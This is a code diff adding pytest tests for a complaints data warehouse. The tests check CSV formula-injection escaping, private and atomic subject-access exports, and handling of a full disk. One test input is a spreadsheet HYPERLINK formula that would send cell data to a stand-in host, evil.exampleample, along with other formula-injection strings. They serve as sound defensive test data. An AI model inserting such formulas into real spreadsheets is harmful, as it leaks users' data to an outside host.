@@ -4,10 +4,17 @@ leaves the warehouse usable the next night."""
 
 from __future__ import annotations
 
+import contextlib
+import csv
+import io
 import os
+import re
+import resource
+import signal
 import subprocess
 import sys
 import uuid
+from decimal import Decimal
 from pathlib import Path
 
 import psycopg
@@ -47,3 +54,188 @@ def test_a_login_without_create_on_the_database_is_told_what_to_ask_for(settings
     assert "Traceback" not in output
     assert f"{user} may not create schemas in the database {target.dbname}" in result.stderr
     assert f"grant create on database {target.dbname} to {user}" in result.stderr
+
+
+# --- A8: no CSV cell a spreadsheet would run ----------------------------------------------------------
+
+
+def test_the_annual_report_csv_neutralises_formulas_and_keeps_negative_numbers():
+    from complaints_warehouse.reports import annual_report
+
+    hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
+    cells = [
+        {
+            "financial_year": "2023-24",
+            "procedure": "all",
+            "section": "2 service areas",
+            "category": hyperlink,
+            "label": hyperlink,
+            "this_year": 7,
+            "last_year": 9,
+            "change": -2,
+        },
+        {
+            "financial_year": "2023-24",
+            "procedure": "all",
+            "section": "9 payments",
+            "category": "@SUM(1+1)",
+            "label": "+44 20 7946 0000",
+            "this_year": Decimal("-12.50"),
+            "last_year": None,
+            "change": "-",
+        },
+    ]
+    rows = list(csv.DictReader(io.StringIO(annual_report.to_csv(cells, "2022-23"))))
+    assert rows[0]["label"] == rows[0]["category"] == "'" + hyperlink
+    assert (rows[0]["value"], rows[0]["value_2022-23"], rows[0]["change"]) == ("7", "9", "-2")
+    assert (rows[1]["category"], rows[1]["label"]) == ("'@SUM(1+1)", "'+44 20 7946 0000")
+    assert (rows[1]["value"], rows[1]["value_2022-23"], rows[1]["change"]) == ("-12.50", "", "'-")
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),  # text, not a number: a spreadsheet would still evaluate it
+        ("@cmd", "'@cmd"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("Highways", "Highways"),
+        ("a=b", "a=b"),
+        (-3, "-3"),
+        (Decimal("-0.5"), "-0.5"),
+        (-2.25, "-2.25"),
+        (None, ""),
+    ],
+)
+def test_the_shared_csv_writer_prefixes_text_that_would_start_a_formula(value, written):
+    from complaints_warehouse.outputs import csv_text
+
+    [header, row] = list(csv.reader(io.StringIO(csv_text(["cell"], [[value]]), newline="")))
+    assert header == ["cell"] and row == [written]
+
+
+WRITERS = re.compile(
+    r"\.write_text\(|\.write_bytes\(|csv\.(writer|DictWriter)\(|shutil\.copy|open\([^)]*['\"]w"
+)
+
+
+def test_every_file_the_warehouse_writes_goes_through_the_outputs_helper():
+    """Reports, CSV tables, summaries, docs and exports: one writer (atomic, clear errors, safe CSV).
+    The benchmarks write scratch data in temporary folders of their own."""
+    package = Path(database.__file__).parent
+    scratch_only = {"outputs.py", "bench.py", "national_bench.py"}
+    found = [
+        f"{path.relative_to(package)}:{number}: {line.strip()}"
+        for path in sorted(package.rglob("*.py"))
+        if path.name not in scratch_only
+        for number, line in enumerate(path.read_text().splitlines(), start=1)
+        if WRITERS.search(line)
+    ]
+    assert found == []
+
+
+# --- C4 and C2: subject-access exports, and a full or unwritable outputs folder ----------------------
+
+
+@pytest.fixture
+def subject(warehouse, settings, tmp_path) -> str:
+    """One complainant (reference C-77) with one case in the warehouse: a subject-access request's subject."""
+    from ingestion.case_system.contract import REPRESENTATIONS
+    from ingestion.copy_loader import load_file
+
+    header = (
+        "representation_id,representation_type,procedure,received_date,service_area_code,directorate,"
+        "status,complainant_id,updated_at"
+    )
+    (tmp_path / "extract").mkdir()
+    path = tmp_path / "extract" / "representations.csv"
+    path.write_text(
+        f"{header}\nR1,complaint,corporate,2024-01-10,ENV,Environment,open,C-77,2024-01-10T10:00:00Z\n"
+    )
+    with database.connect(warehouse, autocommit=True) as conn:
+        load_file(conn, REPRESENTATIONS, path, pseudonym_key=settings.pseudonym_key())
+    return "C-77"
+
+
+def test_subject_access_refuses_to_overwrite_an_existing_file(subject, tmp_path, capsys):
+    from complaints_warehouse import cli
+
+    out = tmp_path / "export.json"
+    out.write_text("someone else's notes\n")
+    out.chmod(0o644)
+    assert cli.main(["subject-access", subject, "--out", str(out)]) == cli.EXIT_SETTINGS
+    error = capsys.readouterr().err
+    assert f"{out} already exists" in error and "--force" in error and "Traceback" not in error
+    assert out.read_text() == "someone else's notes\n" and out.stat().st_mode & 0o777 == 0o644
+
+
+def test_subject_access_with_force_replaces_the_file_with_a_private_one(subject, tmp_path):
+    from complaints_warehouse import cli
+
+    out = tmp_path / "export.json"
+    out.write_text("old\n")
+    out.chmod(0o644)
+    before = out.stat().st_ino
+    assert cli.main(["subject-access", subject, "--out", str(out), "--force"]) == cli.EXIT_OK
+    assert out.stat().st_mode & 0o777 == 0o600
+    assert out.stat().st_ino != before  # a new file put in its place, never the old one rewritten
+    assert "C-77" in out.read_text()
+    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
+
+
+def test_a_new_subject_access_export_is_private(subject, tmp_path):
+    from complaints_warehouse import cli
+
+    out = tmp_path / "new" / "export.json"
+    assert cli.main(["subject-access", subject, "--out", str(out)]) == cli.EXIT_OK
+    assert out.stat().st_mode & 0o777 == 0o600 and "C-77" in out.read_text()
+
+
+def test_an_export_to_a_folder_that_cannot_be_made_is_a_clear_message(subject, tmp_path):
+    blocker = tmp_path / "outputs"
+    blocker.write_text("a file where the folder should be\n")
+    result = run_cli("subject-access", subject, "--out", str(blocker / "export.json"))
+    assert result.returncode == 2, result.stderr
+    assert f"Could not write {blocker / 'export.json'}" in result.stderr
+    assert "Traceback" not in result.stderr
+
+
+@contextlib.contextmanager
+def disk_full_after(limit: int):
+    """This process may write files of ``limit`` bytes at most, as on a disk about to fill: a longer
+    write fails with EFBIG (an OSError, like ENOSPC) instead of the signal the kernel sends by default."""
+    previous_limit = resource.getrlimit(resource.RLIMIT_FSIZE)
+    previous_handler = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
+    resource.setrlimit(resource.RLIMIT_FSIZE, (limit, previous_limit[1]))
+    try:
+        yield
+    finally:
+        resource.setrlimit(resource.RLIMIT_FSIZE, previous_limit)
+        signal.signal(signal.SIGXFSZ, previous_handler)
+
+
+def test_a_full_disk_leaves_the_previous_export_whole_and_says_so(subject, tmp_path, capsys):
+    from complaints_warehouse import cli
+
+    out = tmp_path / "export.json"
+    assert cli.main(["subject-access", subject, "--out", str(out)]) == cli.EXIT_OK
+    previous = out.read_text()
+    with disk_full_after(len(previous) // 2):
+        code = cli.main(["subject-access", subject, "--out", str(out), "--force"])
+    assert code == cli.EXIT_SETTINGS
+    assert f"Could not write {out}: File too large" in capsys.readouterr().err
+    assert out.read_text() == previous  # the old file, whole
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["export.json", "extract"]  # no temporary file
+
+
+def test_write_atomic_on_a_full_disk_keeps_the_old_file(tmp_path):
+    from complaints_warehouse.outputs import OutputNotWritten, write_atomic
+
+    page = tmp_path / "dbt-docs.html"
+    write_atomic(page, "<html>yesterday</html>")
+    with disk_full_after(1000), pytest.raises(OutputNotWritten, match="Could not write .*dbt-docs.html"):
+        write_atomic(page, "<html>" + "x" * 5000 + "</html>")
+    assert page.read_text() == "<html>yesterday</html>"
+    assert [p.name for p in tmp_path.iterdir()] == ["dbt-docs.html"]
